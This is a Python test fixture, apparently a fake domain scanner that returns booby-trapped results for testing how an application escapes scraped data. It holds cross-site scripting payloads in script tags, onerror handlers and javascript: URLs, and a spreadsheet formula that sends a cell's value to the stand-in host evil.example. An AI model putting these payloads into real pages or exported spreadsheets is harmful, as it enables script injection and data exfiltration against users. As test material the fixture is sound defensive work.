"""A scanner that finds what hostile websites would like to be shown."""

from __future__ import annotations

import asyncio

from batchsvc.scanner.codes import ErrorCode
from batchsvc.scanner.protocol import PageVisit, ScanContext, ScanError, ScanResult

MARK = "<img src=x onerror=\"window.taken='yes'\"><script>window.taken='yes'</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


class Hostile:
    """hostile-… finds markup wherever it can, refused-… fails with markup, lost-… is not found, slow-… takes long.

    Args:
        seconds: that each scan takes.
    """

    def __init__(self, seconds: float = 0.05) -> None:
        self.seconds = seconds

    async def scan(self, domain: str, context: ScanContext) -> ScanResult:
        """Scan by name."""
        await asyncio.sleep(60 if domain.startswith("slow-") else self.seconds)
        if domain.startswith("refused-"):
            raise ScanError(ErrorCode.TLS_ERROR, f"Certificate of {MARK}")
        if domain.startswith("lost-"):
            raise ScanError(ErrorCode.DNS_NXDOMAIN, "The DNS knows no such name.")
        if not domain.startswith("hostile-"):
            return ScanResult(domain, title=f"Title of {domain}")
        return ScanResult(
            domain,
            url=f"javascript:window.taken='yes'//{MARK}",
            title=f"{MARK} & more",
            description=FORMULA,
            language='"><b>',
            email_addresses=[MARK],
            social_links={"facebook": "javascript:window.taken='yes'"},
            tech_stack={MARK: {"version": MARK}},
            favicon_url=MARK,
            pages=[PageVisit(url=MARK, status=200, title=MARK)],
        )
